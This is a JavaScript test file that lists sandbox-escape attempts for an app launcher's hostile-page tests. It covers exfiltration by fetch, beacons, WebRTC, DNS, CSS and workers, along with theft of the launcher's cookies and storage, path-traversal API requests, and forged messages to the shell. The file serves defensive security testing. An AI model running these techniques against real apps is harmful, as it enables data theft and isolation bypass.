// Every way out that a hostile page of an app may try, one name each. `run` gets the helpers of run.js as `x`.
//
// Unprotected, in the twin, each must be heard by a listener or call `x.won`; in the program none may.
// `alone`: may end or replace the page, so it gets a load of its own. `only`: the browsers that have the feature at all
// (seen in the twin: in the others nothing is heard even without walls). `gesture`: the test clicks the page first.

const one = (name, run, more = {}) => ({ name, run, ...more });
const CHROMIUM = { only: ["chromium"] };
const ALONE = { alone: true };

/** An element whose attribute leads out. */
const element = (name, tag, attribute, ending, rest = {}, more = {}) =>
  one(name, (x) => x.add(tag, { ...rest, [attribute]: x.url(ending) }), more);
const link = (name, rel, ending, rest = {}, more = {}) => element(name, "link", "href", ending, { rel, ...rest }, more);
/** A style rule that leads out, on an element that wears it. */
const style = (name, rule, more = {}) =>
  one(
    name,
    (x) => {
      x.add("style", {}, rule(x));
      x.add("p", { class: x.name }, "styled");
    },
    more,
  );
/** What a fresh `about:blank` child, without the bridge, can do. */
const child = (name, run, more = {}) => one(name, (x) => run(x.blank(), x), more);
/** Something that must not be had: it is won when the value is truthy. */
const steal = (name, get, more = {}) =>
  one(
    name,
    async (x) => {
      const value = await get(x);
      if (value) x.won(value);
    },
    more,
  );
/** Leaves the page. */
const leave = (name, run, more = {}) => one(name, run, { ...ALONE, ...more });

function callOut(win, x, server) {
  const peer = new win.RTCPeerConnection({ iceServers: [server ?? { urls: `stun:${x.own()}` }] });
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  globalThis.__peers = [...(globalThis.__peers ?? []), peer];
}

/** A child that runs one of the app's own files and nothing before it. */
function ownChild(x, what, to) {
  const script = new URL(`child.js?do=${what}&to=${encodeURIComponent(to)}`, document.baseURI);
  x.add("iframe", { srcdoc: `<body><script src="${script.href.replaceAll("&", "&amp;")}"></script>` });
}

/** The launcher's window. In a tab there is none, and the page is its own parent. */
function above() {
  if (parent === window) throw new Error("nothing is above this page");
  return parent;
}

/** A port from the shell, as the bridge gets one, without the bridge. */
function port(win = window) {
  const doc = String(Math.random());
  return new Promise((done, fail) => {
    win.addEventListener("message", (event) => {
      if (event.data?.t === "init" && event.data.doc === doc) done(event.ports[0]);
    });
    win.eval(`parent === window || parent.postMessage({ chrysalis: 1, t: "hello", doc: "${doc}" }, "*")`);
    setTimeout(() => fail(new Error("no port")), 5000);
  });
}

/** Asks the shell over such a port; the status when it was answered well. */
async function asked(url, rest = {}) {
  const to = await port();
  return new Promise((done) => {
    to.onmessage = ({ data }) => data.t === "head" && done(data.status < 400 && `${url} ${data.status}`);
    to.postMessage({ t: "hello" });
    to.postMessage({ t: "fetch", id: 1, method: "GET", url, headers: [], ...rest });
    setTimeout(() => done(false), 5000);
  });
}

const answered = async (url, init) => {
  const response = await fetch(url, init);
  return response.ok && `${url} ${response.status}`;
};

const CODE = (url) => `fetch("${url}").catch(()=>{});new Image().src="${url}";void 0`;

globalThis.ATTEMPTS = [
  // ---- requests by script
  one("fetch", (x) => fetch(x.url())),
  one("fetch-no-cors", (x) => fetch(x.url(), { mode: "no-cors", method: "POST", body: "secret" })),
  one("fetch-keepalive", (x) => fetch(x.url(), { keepalive: true, method: "POST", body: "secret" })),
  child("fetch-child", (win, x) => win.fetch(x.url())),
  child("fetch-child-keepalive", (win, x) => win.fetch(x.url(), { keepalive: true, method: "POST", body: "secret" })),
  child("fetch-later", (win, x) => win.fetchLater(x.url(), { activateAfter: 0 }), CHROMIUM),
  one("xhr", (x) => {
    const request = new XMLHttpRequest();
    request.open("GET", x.url());
    request.send();
  }),
  child("xhr-child", (win, x) => {
    const request = new win.XMLHttpRequest();
    request.open("GET", x.url());
    request.send();
  }),
  child("xhr-child-sync", (win, x) => {
    const request = new win.XMLHttpRequest();
    request.open("GET", x.url(), false);
    request.send();
  }),
  one("beacon", (x) => navigator.sendBeacon(x.url(), "secret")),
  child("beacon-child", (win, x) => win.navigator.sendBeacon(x.url(), "secret")),
  one("websocket", (x) => new WebSocket(x.url().replace("http", "ws"))),
  child("websocket-child", (win, x) => new win.WebSocket(x.url().replace("http", "ws"))),
  one("eventsource", (x) => new EventSource(x.url())),
  child("eventsource-child", (win, x) => new win.EventSource(x.url())),
  child("webtransport-child", (win, x) => new win.WebTransport(`https://${x.own()}/`)),
  one("image-api", (x) => {
    new Image().src = x.url();
  }),
  one("audio-api", (x) => new Audio(x.url("mp3")).load()),
  one("font-api", (x) => new FontFace("Out", `url(${x.url("woff2")})`).load()),
  one("dynamic-import", (x) => import(x.url("js"))),
  one("import-json", (x) => import(x.url("json"), { with: { type: "json" } })),
  steal("cache-add", async (x) => (await caches.open("x")).add(x.url())),

  // ---- elements
  element("img", "img", "src", "png"),
  element("img-lazy", "img", "src", "png", { loading: "lazy", style: "position:fixed;top:0" }),
  one("img-srcset", (x) => x.add("img", { srcset: `${x.url()} 2x, ${x.url()} 1x` })),
  one("picture-source", (x) => {
    const picture = document.createElement("picture");
    x.add("source", { srcset: x.url() }, "", picture);
    x.add("img", {}, "", picture);
    document.body.append(picture);
  }),
  element("input-image", "input", "src", "png", { type: "image" }),
  element("video", "video", "src", "mp4", { preload: "auto" }),
  element("video-poster", "video", "poster", "png"),
  element("audio", "audio", "src", "mp3", { preload: "auto" }),
  one("media-source", (x) => {
    const video = x.add("video", { preload: "auto" });
    x.add("source", { src: x.url("mp4"), type: "video/mp4" }, "", video);
  }),
  one("track", (x) => {
    const video = x.add("video", { crossorigin: "anonymous" });
    const track = x.add("track", { src: x.url("vtt"), default: "", kind: "subtitles" }, "", video);
    track.track.mode = "showing";
  }),
  element("embed", "embed", "src", "html"),
  element("object", "object", "data", "html"),
  element("iframe", "iframe", "src", "html"),
  element("script", "script", "src", "js"),
  element("script-module", "script", "src", "js", { type: "module" }),
  element("body-background", "table", "background", "png"),
  one("html-set-by-text", (x) => {
    x.add("div").innerHTML = `<img src="${x.url()}" alt="">`;
  }),
  one("template-clone", (x) => {
    const template = document.createElement("template");
    template.innerHTML = `<video poster="${x.url()}"></video>`;
    document.body.append(template.content.cloneNode(true));
  }),
  one("shadow-style", (x) => {
    const shadow = x.add("div").attachShadow({ mode: "closed" });
    shadow.innerHTML = `<style>:host{display:block;background:url(${x.url()})}</style>x`;
  }),
  one(
    "base-href",
    (x) => {
      x.add("base", { href: x.url("html") }, "", document.head);
      x.add("img", { src: "relative.png" });
    },
    ALONE,
  ),
  one(
    "document-write",
    (x) => {
      document.open();
      document.write(`<link rel="stylesheet" href="${x.url("css")}"><img src="${x.url()}" alt="">`);
      document.close();
    },
    ALONE,
  ),

  // ---- links that load
  link("link-stylesheet", "stylesheet", "css"),
  link("link-alternate-stylesheet", "alternate stylesheet", "css", { title: "other" }),
  link("link-preload-image", "preload", "png", { as: "image" }),
  link("link-preload-script", "preload", "js", { as: "script" }),
  link("link-preload-fetch", "preload", "json", { as: "fetch", crossorigin: "" }),
  link("link-prefetch", "prefetch", "html"),
  link("link-modulepreload", "modulepreload", "js"),
  // Firefox does not pre-connect to private addresses, which these are; the name of a TLS one it does ask for (below).
  one(
    "link-preconnect",
    (x) => x.add("link", { rel: "preconnect", href: `http://${x.own()}/` }, "", document.head),
    CHROMIUM,
  ),
  one("link-preconnect-tls", (x) => x.add("link", { rel: "preconnect", href: x.secure() }, "", document.head)),
  one("link-dns-prefetch", (x) => x.add("link", { rel: "dns-prefetch", href: `//${x.named()}` }, "", document.head)),

  // ---- style
  style("css-import", (x) => `@import url("${x.url("css")}");`),
  style("css-background", (x) => `.${x.name} { background: url("${x.url()}") }`),
  style("css-image-set", (x) => `.${x.name} { background-image: image-set("${x.url()}" 1x) }`),
  style("css-list-style", (x) => `.${x.name} { display: list-item; list-style-image: url("${x.url()}") }`),
  style("css-border-image", (x) => `.${x.name} { border: 9px solid; border-image: url("${x.url()}") 30 }`),
  style("css-content", (x) => `.${x.name}::before { content: url("${x.url()}") }`),
  style("css-mask", (x) => `.${x.name} { mask-image: url("${x.url()}") }`),
  style("css-shape-outside", (x) => `.${x.name} { float: left; shape-outside: url("${x.url()}") }`),
  style("css-cursor", (x) => `.${x.name} { cursor: url("${x.url()}"), auto }`),
  style("css-filter", (x) => `.${x.name} { filter: url("${x.near("svg")}#f") }`),
  style(
    "css-font-face",
    (x) => `@font-face { font-family: Out; src: url("${x.url("woff2")}") }
    .${x.name} { font-family: Out }`,
  ),
  one("css-inline", (x) => x.add("p", { style: `background: url("${x.url()}")` }, "inline")),
  one("css-constructed-sheet", (x) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`.${x.name} { background: url("${x.url()}") }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    x.add("p", { class: x.name }, "styled");
  }),

  // ---- SVG
  one("svg-image", (x) => {
    x.add("div").innerHTML = `<svg width="9" height="9"><image href="${x.url()}" width="9" height="9"/></svg>`;
  }),
  one("svg-use", (x) => {
    x.add("div").innerHTML = `<svg width="9" height="9"><use href="${x.near("svg")}#f"/></svg>`;
  }),
  one("svg-feimage", (x) => {
    x.add("div").innerHTML = `<svg width="9" height="9"><filter id="fe"><feImage href="${x.url()}"/></filter>
      <rect width="9" height="9" filter="url(#fe)"/></svg>`;
  }),
  one("svg-script", (x) => {
    const script = document.createElementNS("http://www.w3.org/2000/svg", "script");
    script.setAttribute("href", x.url("js"));
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    svg.append(script);
    document.body.append(svg);
  }),
  one("svg-style", (x) => {
    x.add("div").innerHTML = `<svg><style>@import url("${x.url("css")}");</style></svg>`;
  }),

  // ---- child documents
  one("srcdoc-img", (x) => x.add("iframe", { srcdoc: `<img src="${x.url()}">` })),
  one("srcdoc-script", (x) => x.add("iframe", { srcdoc: `<script>${CODE(x.url())}</script>` })),
  one("srcdoc-refresh", (x) =>
    x.add("iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${x.url("html")}">` }),
  ),
  one(
    "srcdoc-preconnect",
    (x) => x.add("iframe", { srcdoc: `<link rel="preconnect" href="http://${x.own()}/">` }),
    CHROMIUM,
  ),
  one("data-child", (x) => x.add("iframe", { src: `data:text/html,<img src="${x.url()}">` })),
  one("blob-child", (x) => {
    const blob = new Blob([`<img src="${x.url()}">`], { type: "text/html" });
    x.add("iframe", { src: URL.createObjectURL(blob) });
  }),
  one("javascript-child", (x) => x.add("iframe", { src: `javascript:${CODE(x.url())}` })),
  child("child-image", (win, x) => {
    new win.Image().src = x.url();
  }),
  child("child-eval", (win, x) => win.eval(CODE(x.url()))),
  child("child-navigates", (win, x) => {
    win.location = x.url("html");
  }),
  child("child-document-write", (win, x) => {
    win.document.write(`<img src="${x.url()}">`);
    win.document.close();
  }),
  child("child-form", (win, x) => {
    const form = win.document.createElement("form");
    form.action = x.url("html");
    form.method = "post";
    win.document.body.append(form);
    form.submit();
  }),

  // ---- an own file of the app in a child without the bridge (`child.js?do=…`): its policy allows this script
  ...["fetch", "image", "beacon", "websocket", "eventsource", "worker", "location", "import", "style"].map((what) =>
    one(`own-child-${what}`, (x) => ownChild(x, what, x.url(what === "import" ? "js" : "png")), ALONE),
  ),
  one("own-child-preconnect", (x) => ownChild(x, "preconnect", `http://${x.own()}/`), { ...ALONE, ...CHROMIUM }),
  one("own-child-stun", (x) => ownChild(x, "stun", x.own()), ALONE),
  one("own-child-turn", (x) => ownChild(x, "turn", x.own()), ALONE),
  one("own-child-name", (x) => ownChild(x, "stun", `${x.named()}:3478`), ALONE),
  one("own-child-dns-prefetch", (x) => ownChild(x, "dns-prefetch", `//${x.named()}`), ALONE),

  // ---- workers
  one("worker-own-file", (x) => new Worker(`worker.js?to=${encodeURIComponent(x.near("js"))}`)),
  one("worker-blob", (x) => new Worker(URL.createObjectURL(new Blob([`importScripts("${x.url("js")}")`])))),
  one("worker-data", (x) => new Worker(`data:text/javascript,importScripts("${x.url("js")}")`)),
  one(
    "worker-module-blob",
    (x) =>
      new Worker(URL.createObjectURL(new Blob([`import "${x.url("js")}"`], { type: "text/javascript" })), {
        type: "module",
      }),
  ),
  child("worker-child", (win, x) => new win.Worker(URL.createObjectURL(new Blob([`fetch("${x.url()}")`])))),
  one("shared-worker", (x) => new SharedWorker(`worker.js?to=${encodeURIComponent(x.near("js"))}`)),
  one("service-worker", (x) => navigator.serviceWorker.register(`worker.js?to=${encodeURIComponent(x.near("js"))}`)),
  one("audio-worklet", (x) => new AudioContext().audioWorklet.addModule(x.url("js"))),
  one("paint-worklet", (x) => CSS.paintWorklet.addModule(x.url("js")), CHROMIUM),

  // ---- WebRTC (packets over UDP, which no policy of the page names)
  one("rtc-stun", (x) => callOut(window, x)),
  child("rtc-stun-child", (win, x) => callOut(win, x)),
  one("rtc-stun-srcdoc", (x) => {
    const frame = x.add("iframe", { srcdoc: "<p>child</p>" });
    frame.addEventListener("load", () => callOut(frame.contentWindow, x));
  }),
  child("rtc-turn-udp", (win, x) =>
    callOut(win, x, { urls: `turn:${x.own()}?transport=udp`, username: "secret", credential: "secret" }),
  ),
  child("rtc-turn-tcp", (win, x) =>
    callOut(win, x, { urls: `turn:${x.own()}?transport=tcp`, username: "secret", credential: "secret" }),
  ),
  child("rtc-name", (win, x) => callOut(win, x, { urls: `stun:${x.named()}:3478` })),
  child("rtc-candidate", async (win, x) => {
    const [host, to] = x.own().split(":");
    const [a, b] = [new win.RTCPeerConnection(), new win.RTCPeerConnection()];
    globalThis.__peers = [...(globalThis.__peers ?? []), a, b];
    a.createDataChannel("x");
    await a.setLocalDescription(await a.createOffer());
    await b.setRemoteDescription(a.localDescription);
    await b.setLocalDescription(await b.createAnswer());
    await a.setRemoteDescription(b.localDescription);
    await a.addIceCandidate({ candidate: `candidate:1 1 udp 1 ${host} ${to} typ host`, sdpMid: "0" });
  }),

  // ---- names (heard by the DNS server)
  one("dns-image", (x) => {
    new Image().src = `http://${x.named()}:47011/`;
  }),
  child("dns-fetch-child", (win, x) => win.fetch(`http://${x.named()}:47011/`)),
  one("dns-websocket", (x) => new (x.blank().WebSocket)(`ws://${x.named()}:47011/`)),
  one("dns-style", (x) => x.add("link", { rel: "stylesheet", href: `http://${x.named()}:47011/` })),
  one(
    "dns-preconnect",
    (x) => x.add("link", { rel: "preconnect", href: `http://${x.named()}:47011/` }, "", document.head),
    CHROMIUM,
  ),
  one("own-child-preconnect-tls", (x) => ownChild(x, "preconnect", x.secure())),
  one("dns-srcdoc-prefetch", (x) => x.add("iframe", { srcdoc: `<link rel="dns-prefetch" href="//${x.named()}">` })),

  // ---- leaving
  leave("location", (x) => {
    location.href = x.url("html");
  }),
  leave("location-replace", (x) => location.replace(x.url("html"))),
  leave("location-name", (x) => {
    location.href = `http://${x.named()}:47011/`;
  }),
  leave("navigation-api", (x) => navigation.navigate(x.url("html"))),
  leave("meta-refresh", (x) =>
    x.add("meta", { "http-equiv": "refresh", content: `0;url=${x.url("html")}` }, "", document.head),
  ),
  leave("link-click", (x) => x.add("a", { href: x.url("html") }, "out").click()),
  leave("link-click-blank", (x) => x.add("a", { href: x.url("html"), target: "_blank" }, "out").click()),
  leave("link-click-top", (x) => x.add("a", { href: x.url("html"), target: "_top" }, "out").click()),
  leave("link-ping", (x) => x.add("a", { href: "#here", ping: x.url() }, "here").click(), CHROMIUM),
  leave("link-download", (x) => x.add("a", { href: x.near("bin"), download: "x" }, "save").click()),
  leave("area-click", (x) => {
    const map = x.add("map");
    x.add("area", { href: x.url("html") }, "", map).click();
  }),
  leave("form-get", (x) => x.add("form", { action: x.url("html") }).submit()),
  leave("form-post", (x) => x.add("form", { action: x.url("html"), method: "post" }).submit()),
  leave("form-blank", (x) => x.add("form", { action: x.url("html"), target: "_blank" }).submit()),
  leave("form-top", (x) => x.add("form", { action: x.url("html"), target: "_top" }).submit()),
  leave("form-requestsubmit", (x) => {
    const form = x.add("form");
    x.add("button", { formaction: x.url("html") }, "go", form).click();
  }),
  leave("form-into-child", (x) => {
    x.add("iframe", { name: "into" });
    x.add("form", { action: x.url("html"), target: "into", method: "post" }).submit();
  }),
  leave("javascript-link", (x) => x.add("a", { href: `javascript:${CODE(x.url())}` }, "run").click()),
  leave("window-open", (x) => open(x.url("html"))),
  leave("window-open-self", (x) => open(x.url("html"), "_self")),
  leave("window-open-noopener", (x) => open(x.url("html"), "_blank", "noopener")),
  leave("top-location", (x) => {
    top.location = x.url("html");
  }),
  leave("parent-location", (x) => {
    parent.location.href = x.url("html");
  }),
  leave("popup-blank", (x) => {
    const popup = open("about:blank");
    if (popup) {
      x.won("a window");
      popup.location = x.url("html");
    }
  }),

  // ---- what is the launcher's
  steal("cookie", (x) => document.cookie || x.blank().document.cookie),
  steal("launcher-cookie", () => above().document.cookie),
  steal("launcher-document", () => above().document.documentElement.outerHTML),
  steal("launcher-local-storage", () => above().localStorage.getItem("launcher")),
  steal("launcher-session-storage", () => above().sessionStorage.getItem("launcher")),
  steal("origin-local-storage", (x) => x.blank().localStorage.getItem("launcher")),
  steal("origin-indexeddb", async () => (await indexedDB.databases()).some((db) => db.name === "launcher")),
  steal("origin-caches", async () => (await caches.keys()).includes("launcher")),
  steal("origin-locks", (x) => x.blank().navigator.locks.request("launcher", () => "held")),
  steal(
    "origin-broadcast",
    (x) =>
      new Promise((done) => {
        new BroadcastChannel("launcher").onmessage = () => done("heard");
        const frame = x.add("iframe", { src: `${x.launcher}/` });
        frame.addEventListener("load", () => new frame.contentWindow.BroadcastChannel("launcher").postMessage(1));
      }),
  ),
  steal("origin-file-system", (x) => x.blank().navigator.storage.getDirectory()),
  steal(
    "launcher-image",
    (x) =>
      new Promise((done) => {
        const image = x.add("img", { src: `${x.launcher}/icon.svg` });
        image.onload = () => done("shown");
        image.onerror = () => done(false);
      }),
  ),
  steal(
    "launcher-in-a-child",
    (x) =>
      new Promise((done) => {
        const frame = x.add("iframe", { src: `${x.launcher}/` });
        frame.addEventListener("load", () => done(frame.contentDocument?.title));
      }),
  ),
  child("owner-by-cookie", async (win, x) => {
    const response = await win.fetch(`${x.launcher}/v1/me`, { credentials: "include" });
    if (response.ok) x.won("the owner's answer");
  }),
  child("owner-by-cookie-post", async (win, x) => {
    const init = { method: "POST", credentials: "include", headers: { "X-Chrysalis-Request": "1" }, body: "{}" };
    const response = await win.fetch(`${x.launcher}/v1/settings`, init);
    if (response.ok) x.won("the owner's answer");
  }),
  child("owner-by-form", (win, x) => {
    const form = win.document.createElement("form");
    Object.assign(form, { action: `${x.launcher}/v1/auth/logout`, method: "post" });
    win.document.body.append(form);
    form.submit();
    setTimeout(() => {
      if (win.location.href !== "about:blank") x.won(win.location.href);
    }, 1000);
  }),
  steal("bridge-owner-me", () => answered("/v1/me")),
  // Reading the list is every app's right (contract 5.2); adding to it is the owner's.
  steal("bridge-owner-connections", () =>
    answered("/v1/settings/connections", { method: "POST", body: '{"baseUrl":"http://127.0.0.1:1"}' }),
  ),
  steal("bridge-owner-settings", () => answered("/v1/settings", { method: "PUT", body: '{"theme":"dark"}' })),
  steal("bridge-owner-activity", () => answered("/v1/activity")),
  steal("bridge-owner-users", () => answered("/v1/auth/logout", { method: "POST" })),
  steal("bridge-owner-frame", (x) => answered(`/v1/apps/${x.config.otherApp}/frame`, { method: "POST" })),
  steal("bridge-owner-import", () => answered("/v1/apps/import", { method: "POST", body: '{"box":"chat"}' })),
  steal("bridge-spelling-encoded", () => answered("/v1/%6de")),
  steal("bridge-spelling-dots", () => answered("/v1/apps/../me")),
  steal("bridge-spelling-case", () => answered("/V1/ME")),
  steal("bridge-spelling-doubled", () => answered("/v1//me")),
  steal("bridge-absolute", (x) => answered(`${x.launcher}/v1/me`, { credentials: "include" })),
  steal("bridge-other-app-store", (x) => answered(`/v1/apps/${x.config.otherApp}/__storage`)),
  steal("bridge-other-app-routes", (x) => answered(`/v1/apps/${x.config.otherApp}/plugins`)),
  steal("bridge-other-app-files", (x) => answered(`${x.other.replace(x.launcher, "")}secret.txt`)),
  steal(
    "other-app-image",
    (x) =>
      new Promise((done) => {
        const image = x.add("img", { src: `${x.other}secret.png` });
        image.onload = () => done("shown");
        image.onerror = () => done(false);
      }),
  ),
  steal(
    "other-app-script",
    (x) =>
      new Promise((done) => {
        const script = x.add("script", { src: `${x.other}secret.js` });
        script.onload = () => done("ran");
        script.onerror = () => done(false);
      }),
  ),
  child("other-app-fetch", async (win, x) => {
    if ((await win.fetch(`${x.other}secret.txt`)).ok) x.won("read");
  }),
  steal(
    "other-app-in-a-child",
    (x) =>
      new Promise((done) => {
        const frame = x.add("iframe", { src: `${x.other}secret.txt` });
        frame.addEventListener("load", () => done(frame.contentDocument?.body?.textContent));
      }),
  ),

  // ---- the shell, spoken to without the bridge
  steal(
    "shell-asked-plainly",
    () =>
      new Promise((done) => {
        addEventListener("message", ({ data }) => data?.t === "head" && done(data.status === 200));
        parent.postMessage({ t: "fetch", id: 1, method: "GET", url: "/v1/me" }, "*");
        parent.postMessage({ chrysalis: 1, t: "fetch", id: 1, method: "GET", url: "/v1/me", s: "0".repeat(32) }, "*");
      }),
    ALONE,
  ),
  steal(
    "shell-port-for-a-child",
    (x) =>
      new Promise((done) => {
        const win = x.blank();
        win.addEventListener("message", (event) => event.ports[0] && done("a port"));
        win.eval('parent.parent.postMessage({ chrysalis: 1, t: "hello", doc: "child" }, "*")');
      }),
    ALONE,
  ),
  steal("shell-port-owner", () => asked("/v1/me"), ALONE),
  steal("shell-port-deletes", () => asked("/v1/settings/connections", { method: "DELETE" }), ALONE),
  steal("shell-port-launcher", () => asked("/index.html"), ALONE),
  steal("shell-port-climbs", () => asked("/frame/x/../../v1/me"), ALONE),
  steal("shell-port-backslash", () => asked("/\\v1\\me"), ALONE),
  steal("shell-port-absolute", (x) => asked(`${x.launcher}/v1/me`), ALONE),
  steal("shell-port-other-app", (x) => asked(`${x.other.replace(x.launcher, "")}secret.txt`), ALONE),
  steal(
    "shell-port-as-owner",
    () =>
      asked("/v1/me", {
        headers: [
          ["x-chrysalis-frame", ""],
          ["cookie", "owner=1"],
        ],
      }),
    ALONE,
  ),
  one("shell-port-outside", (x) => asked(x.url()), ALONE),

  // ---- what a person would have to be asked for
  steal("dialog", () => confirm("Leave?"), ALONE),
  steal("prompt", () => prompt("Your key?"), ALONE),
  steal("camera", (x) => x.blank().navigator.mediaDevices.getUserMedia({ video: true }), CHROMIUM),
  steal("microphone", () => navigator.mediaDevices.getUserMedia({ audio: true }), CHROMIUM),
  steal(
    "geolocation",
    () => new Promise((done) => navigator.geolocation.getCurrentPosition(done, () => done(null))),
    CHROMIUM,
  ),
  steal("clipboard-read", () => focus() ?? navigator.clipboard.readText().then((text) => text || "empty"), CHROMIUM),
  steal("notification", () => Notification.permission === "granted" && "may notify", CHROMIUM),
];
